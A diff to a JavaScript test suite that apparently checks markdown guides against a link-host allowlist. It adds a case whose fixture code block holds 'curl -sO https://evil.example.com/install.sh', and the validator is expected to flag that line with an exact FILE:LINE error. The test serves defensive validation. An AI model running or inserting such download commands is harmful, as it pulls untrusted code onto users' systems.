@@ -125,6 +125,18 @@ describe('buildKnowledge: broken guides give one exact FILE:LINE message each', 
       expected: ['a.md:7: link host "evil.example.com" is not on the allowlist (https://evil.example.com/login)'],
     },
     {
+      tried:
+        'a code block whose command fetches from a https host not on the allowlist, beside a config line naming a host and a setting key (not links in code)',
+      files: {
+        'a.md': topic(
+          'a',
+          '',
+          'Intro.\n\n1. Run:\n   ```sh\n   server_name files.example.org;\n   traefik.ingress.kubernetes.io/router.entrypoints: websecure\n   curl -sO https://evil.example.com/install.sh\n   ```\n2. Check `ldap://directory.example.org` answers.\n',
+        ),
+      },
+      expected: ['a.md:11: link host "evil.example.com" is not on the allowlist (https://evil.example.com/install.sh)'],
+    },
+    {
       tried: 'a http link to a host not on the allowlist',
       files: { 'a.md': topic('a', '', 'Intro.\n\n1. Open http://evil.example.com/login.\n') },
       expected: [
